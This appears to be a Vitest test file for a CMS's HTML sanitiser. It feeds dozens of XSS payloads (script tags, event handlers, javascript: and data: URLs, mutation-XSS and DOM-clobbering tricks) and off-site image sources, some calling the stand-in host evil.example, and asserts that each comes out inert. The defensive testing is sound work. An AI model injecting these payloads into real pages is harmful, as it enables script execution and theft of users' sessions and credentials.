// @vitest-environment node
import { JSDOM } from 'jsdom';
import { describe, expect, it, vi } from 'vitest';
import { sanitiseArticle, sanitiseHtml } from '@/services/content/sanitise-html';

const MEDIA = ['https://cms.example/', 'https://cdn.example/bucket/'];
vi.mock('@/lib/config/server-env', () => ({ serverEnv: () => ({ mediaUrls: MEDIA }) }));

/** Ways to act that have got through filters: each has to come out with nothing that acts. */
const PAYLOADS = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<script/x>alert(1)</script >', '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '<img/src="x"/onerror=alert(1)>', '<img src=`x`onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="java&#10;script:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="blob:http://x/1">x</a>',
  '<a href="//evil.example">x</a>', '<a href="/\\evil.example" onclick=alert(1)>x</a>', '<a href="x" style="background:url(javascript:alert(1))">x</a>', '<a href="#" onmouseover="alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<applet code=x></applet>',
  '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example"</style>', '<p style="position:fixed;inset:0">x</p>',
  '<form action="//evil.example"><input name=password></form>', '<button formaction="javascript:alert(1)">x</button>', '<input autofocus onfocus=alert(1)>', '<textarea onfocus=alert(1) autofocus>', '<select onchange=alert(1)><option>1</select>',
  '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<marquee onstart=alert(1)>x</marquee>', '<body onload=alert(1)>', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<template><script>alert(1)</script></template>', '<xss onpointerrawupdate=alert(1)>x</xss>', '<p id=x tabindex=1 onactivate=alert(1)></p>', '<![CDATA[<script>alert(1)</script>]]>', '<!--><script>alert(1)</script>-->', '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p data-x="1" is="x-y" slot=z>x</p>', '<a href="https://ok.example" target=_blank ping=//evil.example>x</a>', '<b/onclick=alert(1)>x', '"><script>alert(1)</script>',
  '<p id="__NEXT_DATA__">{"props":{}}</p>', '<p id="__next">x</p>', '<a id=cookie href="/faqs">x</a>', '<p name="__NEXT_DATA__">x</p>',
  '<a href="/\\evil.example">x</a>', '<a href="/&#92;evil.example">x</a>', '<a href="/\t\\evil.example">x</a>', '<a href="/&#10;/evil.example">x</a>', '<a href="\\\\evil.example">x</a>', '<a href=" /\\/evil.example">x</a>',
  '</p><script>alert(1)</script>', '<a href=https://ok.example/"onmouseover=alert(1)>x</a>',
];

/** Pictures that are none of the editors' own, that say no size, or that bring more than a picture. */
const PICTURES = [
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x" width="8" height="5">', '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x" width="8" height="5">', '<img src="javascript:alert(1)" alt="x" width="8" height="5">', '<img src="JaVa\tScript:alert(1)" width="8" height="5">', '<img src="blob:https://cms.example/1" width="8" height="5">',
  '<img src="https://evil.example/uploads/a.png" alt="x" width="8" height="5">', '<img src="//evil.example/a.png" alt="x" width="8" height="5">', '<img src="/\\evil.example/a.png" width="8" height="5">', '<img src="https:evil.example/a.png" width="8" height="5">', '<img src="https://cms.example@evil.example/a.png" width="8" height="5">', '<img src="https://evil@cms.example/a.png" width="8" height="5">',
  '<img src="http://cms.example/uploads/a.png" width="8" height="5">', '<img src="https://cms.example:8443/uploads/a.png" width="8" height="5">', '<img src="https://cms.example.evil.example/a.png" width="8" height="5">', '<img src="https://cdn.example/other/a.png" width="8" height="5">', '<img src="https://cdn.example/bucket/../other/a.png" width="8" height="5">', '<img src="https://cdn.example/bucket/%2e%2e/other/a.png" width="8" height="5">',
  '<img src="/uploads/a.svg" alt="x" width="8" height="5">', '<img src="/uploads/a.SVG?x=.png" width="8" height="5">', '<img alt="x" width="8" height="5">', '<img src="" width="8" height="5">', '<img srcset="https://evil.example/a.png 2x" width="8" height="5">',
  '<img src="/uploads/a.png" alt="x">', '<img src="/uploads/a.png" width="8">', '<img src="/uploads/a.png" width="0" height="5">', '<img src="/uploads/a.png" width="-8" height="5">', '<img src="/uploads/a.png" width="50%" height="5">', '<img src="/uploads/a.png" width="8" height="999999">',
  '<input type="image" src="/uploads/a.png" width="8" height="5">', '<video src="/uploads/a.png" width="8" height="5" poster="https://evil.example/a.png"></video>', '<picture><source srcset="https://evil.example/a.png"></picture>', '<image src="https://evil.example/a.png" width="8" height="5">',
];

const ACTIVE_TAGS = /^(script|style|iframe|object|embed|applet|base|meta|link|form|input|button|textarea|select|svg|math|img|video|audio|template|noscript|body|details|marquee)$/i;
const HARMLESS_ATTRIBUTES = new Set(['href', 'title', 'lang', 'scope', 'colspan', 'rowspan', 'rel']);

function elementsOf(html: string): Element[] {
  return [...new JSDOM(html).window.document.body.querySelectorAll('*')];
}

describe('HTML of the CMS', () => {
  it.each(PAYLOADS)('has nothing left that acts: %s', (payload) => {
    const clean = sanitiseHtml(`<p>before</p>${payload}<p>after</p>`);
    const elements = elementsOf(clean);
    expect(elements.filter(({ tagName }) => ACTIVE_TAGS.test(tagName))).toEqual([]);
    for (const element of elements) {
      // An emptied `is` names no element; browsers give no way to take the attribute itself away.
      expect([...element.attributes].filter(({ name, value }) => !HARMLESS_ATTRIBUTES.has(name) && !(name === 'is' && value === '')).map(({ name }) => name)).toEqual([]);
      const href = element.getAttribute('href');
      if (href !== null) expect(href).toMatch(/^(https?:|mailto:|tel:|#|\/(?![/\\]))/i);
    }
    // What it gives is final: reading it again changes nothing, so no parser finds more in it than the first did.
    expect(sanitiseHtml(clean)).toBe(clean);
  });

  it('keeps what editors write', () => {
    const text = '<h2>Care</h2><p lang="en"><strong>Dry</strong> <em>only</em>. <a href="/faqs">More</a></p><ul><li>One</li></ul><table><tbody><tr><th scope="row" colspan="2">Fee</th></tr></tbody></table>';
    expect(sanitiseHtml(text)).toBe(text);
  });

  it.each(PICTURES)('leaves no picture that nobody may bring: %s', (payload) => {
    const clean = sanitiseArticle(`<p>before</p>${payload}<p>after</p>`);
    expect(clean).not.toMatch(/<(img|picture|source|video|input)/);
    expect(clean).not.toContain('evil.example/a.png');
    expect(clean).toMatch(/before.*after/s);
    expect(sanitiseArticle(clean)).toBe(clean);
  });

  it.each(PAYLOADS)('has nothing left that acts in an article either: %s', (payload) => {
    const clean = sanitiseArticle(`<p>before</p>${payload}<p>after</p>`);
    expect(clean).toBe(sanitiseHtml(`<p>before</p>${payload}<p>after</p>`));
  });

  it('lets an article show a picture of the media library, with its size and words and nothing else', () => {
    const given = '<figure><img src="/uploads/a.png?updatedAt=1#x" alt="A &amp; B" width="800" height="500" srcset="https://evil.example/a.png 2x" sizes="1px" onload="alert(1)" onerror="alert(1)" style="position:fixed" loading="eager" id="__next" class="x" crossorigin="use-credentials" usemap="#m" longdesc="https://evil.example"><figcaption>Words</figcaption></figure>';
    const clean = sanitiseArticle(given);
    expect([...(elementsOf(clean)[1]?.attributes ?? [])].map(({ name, value }) => `${name}=${value}`).sort()).toEqual(['alt=A & B', 'height=500', 'src=https://cms.example/uploads/a.png', 'width=800']);
    expect(clean).toContain('<figcaption>Words</figcaption>');
    expect(sanitiseArticle(clean)).toBe(clean);
    expect(sanitiseArticle('<img src="https://cdn.example/bucket/b/a.jpg" width="8" height="5">')).toBe('<img src="https://cdn.example/bucket/b/a.jpg" width="8" height="5" alt="">');
  });

  it('lets nothing but a picture have what a picture has', () => {
    expect(sanitiseArticle('<p src="/uploads/a.png" alt="x" width="8" height="5">x</p>')).toBe('<p>x</p>');
  });

  it('lets no other text show pictures', () => {
    expect(sanitiseHtml('<p>x<img src="/uploads/a.png" alt="" width="8" height="5"></p>')).toBe('<p>x</p>');
  });

  it('lets no page it links to reach back', () => {
    expect(sanitiseHtml('<a href="https://elsewhere.example">x</a>')).toContain('rel="noopener noreferrer"');
  });
});
